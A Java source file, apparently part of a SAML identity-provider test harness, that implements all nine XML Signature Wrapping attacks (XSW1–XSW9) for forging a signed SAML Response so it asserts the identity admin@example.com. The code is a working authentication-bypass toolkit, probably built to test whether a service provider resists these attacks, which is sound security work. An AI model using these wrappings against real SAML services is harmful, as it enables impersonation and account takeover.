package dev.sallyport.saml.idp;

import java.util.Set;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The ways to put a forged element where a signed one is looked for, and to keep the signed one
 * where its signature finds it (Somorovsky et al., "On Breaking SAML", USENIX Security 2012). Each
 * takes a Response and forges its Assertion, or the whole Response.
 *
 * <p>{@code whole} is the element that is signed and copied.
 */
public enum Wrapping {
  /** The forged element carries the signature, which carries the original. */
  XSW1 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element original = withoutSignature(whole);
      Xml.child(whole, "Signature").appendChild(original);
      forgery.forge(whole);
    }
  },
  /** The original stands before the signature, inside of the forged element. */
  XSW2 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element original = withoutSignature(whole);
      whole.insertBefore(original, Xml.child(whole, "Signature"));
      forgery.forge(whole);
    }
  },
  /** The forged assertion stands before the original. */
  XSW3 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element assertion = carrier(document);
      assertion.getParentNode().insertBefore(forgery.forged(assertion), assertion);
    }
  },
  /** The forged assertion holds the original as a child. */
  XSW4 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element assertion = carrier(document);
      Element forged = forgery.forged(assertion);
      assertion.getParentNode().replaceChild(forged, assertion);
      forged.appendChild(assertion);
    }
  },
  /** The forged element keeps the signature, and the original follows at the end. */
  XSW5 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element assertion = carrier(document);
      assertion.getParentNode().appendChild(withoutSignature(assertion));
      forgery.forge(assertion);
    }
  },
  /** The forged element keeps the signature, and the signature holds the original. */
  XSW6 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element assertion = carrier(document);
      Element original = withoutSignature(assertion);
      Xml.first(document, "Signature").appendChild(original);
      forgery.forge(assertion);
    }
  },
  /** The forged assertion hides in Extensions, where the schema takes anything. */
  XSW7 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element assertion = carrier(document);
      Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
      document.getDocumentElement().insertBefore(extensions, assertion);
      extensions.appendChild(forgery.forged(assertion));
    }
  },
  /** The original hides in an Object of the forged element's signature. */
  XSW8 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element original = withoutSignature(whole);
      Element object = document.createElementNS(SIGNATURE, "ds:Object");
      Xml.child(whole, "Signature").appendChild(object);
      object.appendChild(original);
      forgery.forge(whole);
    }
  },
  /** The original hides in StatusDetail, which the schema takes anything in too. */
  XSW9 {
    @Override
    void wrap(Document document, Element whole, Forgery forgery) {
      Element original = (Element) whole.cloneNode(true);
      Element detail = document.createElementNS(PROTOCOL, "samlp:StatusDetail");
      Xml.child(document.getDocumentElement(), "Status").appendChild(detail);
      detail.appendChild(original);
      forgery.forge(whole);
    }
  };

  private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
  private static final String SIGNATURE = "http://www.w3.org/2000/09/xmldsig#";
  private static final Set<String> CARRIERS = Set.of("Assertion", "EncryptedAssertion");

  /** Whom all of them forge. */
  public static final String FORGED = "admin@example.com";

  abstract void wrap(Document document, Element whole, Forgery forgery);

  /** Whether it needs no signature to hold on to, and so works beside an EncryptedAssertion. */
  public boolean takesWhatHidesItsSignature() {
    return switch (this) {
      case XSW1, XSW2, XSW6, XSW8 -> false;
      case XSW3, XSW4, XSW5, XSW7, XSW9 -> true;
    };
  }

  /**
   * Wraps a signed Response.
   *
   * @param response whether the Response's signature is the one to abuse, or the Assertion's
   * @param encrypted an EncryptedAssertion about {@link #FORGED}, made by the attacker; null where
   *     the Response is not encrypted
   */
  public void wrap(Document document, boolean response, Element encrypted) {
    wrap(
        document,
        response ? document.getDocumentElement() : carrier(document),
        new Forgery(encrypted));
  }

  /** The first Assertion, encrypted or not. */
  private static Element carrier(Document document) {
    return first(document.getDocumentElement());
  }

  private static Element first(Element parent) {
    for (Node node = parent.getFirstChild(); node != null; node = node.getNextSibling()) {
      if (node instanceof Element child) {
        Element found = CARRIERS.contains(child.getLocalName()) ? child : first(child);
        if (found != null) {
          return found;
        }
      }
    }
    return null;
  }

  private static Element withoutSignature(Element signed) {
    Element copy = (Element) signed.cloneNode(true);
    for (Node node = copy.getFirstChild(); node != null; node = node.getNextSibling()) {
      if ("Signature".equals(node.getLocalName())) {
        copy.removeChild(node);
        break;
      }
    }
    return copy;
  }

  /** What the attacker says instead: another ID, another person. */
  record Forgery(Element encrypted) {

    Element forged(Element carrier) {
      if (encrypted != null) {
        return (Element) carrier.getOwnerDocument().importNode(encrypted, true);
      }
      Element copy = withoutSignature(carrier);
      forge(copy);
      return copy;
    }

    /** Forges the element, and not what it holds of the original. */
    void forge(Element element) {
      if (element.getLocalName().equals("EncryptedAssertion")) {
        element.getParentNode().replaceChild(forged(element), element);
        return;
      }
      element.setAttribute("ID", "_forged");
      for (Node node = element.getFirstChild(); node != null; ) {
        Node next = node.getNextSibling();
        if (node instanceof Element child) {
          switch (child.getLocalName()) {
            case "Subject" -> Xml.child(child, "NameID").setTextContent(FORGED);
            case "Assertion", "EncryptedAssertion" -> {
              if (element.getLocalName().equals("Response")) {
                forge(child);
              }
            }
            default -> {}
          }
        }
        node = next;
      }
    }
  }
}
